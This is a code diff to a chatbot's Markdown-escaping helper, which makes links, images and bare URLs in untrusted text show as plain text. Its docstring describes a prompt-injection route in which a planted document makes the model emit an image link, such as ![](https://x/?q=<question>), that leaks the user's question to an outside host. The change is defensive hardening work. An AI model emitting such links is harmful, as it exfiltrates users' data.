@@ -22,10 +22,12 @@ _CODE = re.compile(r"```[\s\S]*?(?:```|$)|`[^`\n]+`")
 
 
 def as_text(text: str) -> str:
-    """Markdown-safe display of untrusted text: HTML in prose is escaped so it shows as typed.
+    """Markdown-safe display of untrusted text (user messages, model answers): HTML in prose is escaped so it
+    shows as typed, and markdown images, links and bare URLs show as text, so nothing a prompt-injected
+    document makes the model write can make the browser fetch a URL (``![](https://x/?q=<question>)``).
 
     Code spans are left alone because markdown already shows them literally (escaping there would print
-    ``&lt;``). The chatbot's HTML sanitizer stays on as the second line of defence.
+    ``&lt;``). The chatbot's HTML sanitizer and the page's Content-Security-Policy are the next lines of defence.
     """
     out, pos = [], 0
     for m in _CODE.finditer(text):
@@ -36,9 +38,15 @@ def as_text(text: str) -> str:
     return "".join(out)
 
 
+# A bare URL or www. name that GFM would turn into a link.
+_AUTOLINK = re.compile(r"(?i)\b(https?|ftp)://|\bwww\.")
+
+
 def _escape(s: str) -> str:
-    # '>' stays so markdown quotes still work; without '<' no tag can open.
-    return s.replace("&", "&amp;").replace("<", "&lt;")
+    # '>' stays so markdown quotes still work; without '<' no tag can open, without '[' no link or image
+    # (inline, reference or definition) can form; a backslash-escaped ':' or '.' still shows, but ends autolinks.
+    s = s.replace("\\", "\\\\").replace("&", "&amp;").replace("<", "&lt;").replace("[", "\\[")
+    return _AUTOLINK.sub(lambda m: m.group(0).replace("://", "\\://").replace("www.", "www\\."), s)
 
 
 def _request(args: tuple[Any, ...], kwargs: dict[str, Any]) -> gr.Request | None:
